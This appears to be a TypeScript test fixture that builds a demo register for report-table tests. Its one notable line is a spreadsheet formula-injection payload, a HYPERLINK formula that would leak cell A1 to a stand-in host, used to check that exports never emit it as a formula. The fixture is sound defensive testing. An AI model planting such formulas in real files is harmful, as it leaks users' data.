/**
 * ReportData for the report-table tests, built the way the application builds
 * it: the demo imported into a real temporary SQLite register, scored by PI-1.
 */
import { getControl, updateControl } from '../../db/controls.js';
import { createDemo } from '../../db/demo.js';
import { scoredAssessment } from '../../api/assessment-handlers.js';
import { registerLibrary } from '../../db/frameworks.js';
import type { Register } from '../../db/register.js';
import type { ScoredAssessment } from '../../shared/api/results.js';
import { buildReportData, type ReportData } from '../../shared/report/report-data.js';
import { FIXED_NOW } from '../helpers/temp-register.js';

/** A title a hostile or careless user could type; it must never reach a spreadsheet as a formula. */
export const HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")';
/** The demo control renamed to HOSTILE_TITLE: it backs criterion 7.1(a) and has evidence. */
export const HOSTILE_UID = 'demo-control-09';

export interface Fixture {
  detail: ScoredAssessment;
  data: ReportData;
}

export function reportFixture(register: Register, assessmentId: number): Fixture {
  const detail = scoredAssessment(register, assessmentId);
  const data = buildReportData({ detail, frameworks: [...registerLibrary(register).frameworks.values()], auditExtract: [], trend: [], generatedAt: FIXED_NOW }, 'complete');
  return { detail, data };
}

/** The demo register; with `hostile`, one control of the live register (and so of the 2026 draft) gets HOSTILE_TITLE. */
export function demoRegister(register: Register, options: { hostile?: boolean } = {}): Register {
  createDemo(register);
  if (options.hostile) {
    const { id } = register.db.prepare('SELECT id FROM controls WHERE uid = ?').get(HOSTILE_UID) as { id: number };
    const { family, description, owner, maturity, lastReviewed, stages, riskTypes } = getControl(register, id);
    updateControl(register, id, { family, title: HOSTILE_TITLE, description, owner, maturity, lastReviewed, stages, riskTypes });
  }
  return register;
}
